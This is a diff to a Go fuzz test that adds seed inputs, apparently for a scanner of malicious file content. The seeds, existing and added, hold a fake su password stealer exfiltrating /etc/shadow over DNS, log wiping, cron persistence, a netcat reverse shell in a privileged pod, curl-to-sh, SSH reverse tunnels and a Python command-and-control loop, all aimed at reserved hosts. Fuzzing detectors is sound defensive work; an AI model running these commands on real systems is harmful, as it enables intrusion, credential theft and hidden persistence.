@@ -22,6 +22,10 @@ func FuzzContent(f *testing.F) {
 		{"/tmp/.x/su", "#!/bin/sh\ncp ./x /usr/bin/y; touch -hr /bin/ls -d@1 -- /usr/bin/y\nread -s -p 'Password: ' p\necho $p >> /tmp/.k\nfor c in $(base32 /etc/shadow); do dig $c.x.example.net; done\ndebugfs -w -R 'sif /usr/bin/y crtime 1' /dev/sda1\n"},
 		{"/root/c.py", "def f(p):\n    f(p)\n    open(p, 'wb')\nfor p in ('/var/log/wtmp',):\n    f(p)\nimport os, getpass\nos.utime('/usr/bin/x', None)\nsocket.gethostbyname(open('/etc/shadow').read() + '.x.example.net')\npw = getpass.getpass('Password: ')\n"},
 		{"/app/x.sh", "cat <<EOF > /etc/cron.d/y\n* * * * * root sh /tmp/z\nEOF\n${a:-$((1<<62))} \"$(( ${#x} ))\" ${x//a/b} <(echo) >(cat) {a,b}{c,d}\n"},
+		{"/k8s/pod.yaml", "kind: Pod\nspec:\n  hostPID: true\n  containers:\n  - command: [sh, -c]\n    args: [\"nc -e /bin/sh 203.0.113.7 4444\"]\n    securityContext: {privileged: true}\n  volumes: [{name: r, hostPath: {path: /}}]\nx: &a [*a]\n"},
+		{"/src/Dockerfile", "FROM x\nRUN a \\\n  && curl http://203.0.113.7/i | sh\nCMD [\"sh\", \"-c\", \"ssh -NR 2222:localhost:22 u@203.0.113.7\"]\nRUN <<EOF\necho\nEOF\n"},
+		{"/root/t.exp", "#!/usr/bin/expect -f\nspawn ssh -NR 2222:localhost:22 u@203.0.113.7\nexpect \"*assword*\"; send \"x\\r\"\n"},
+		{"/opt/a.py", "import requests,subprocess\nwhile 1:\n c=requests.get('http://203.0.113.7/c').text\n requests.post('http://203.0.113.7/o',data=subprocess.getoutput(c))\n"},
 	} {
 		f.Add(s.p, s.text)
 	}
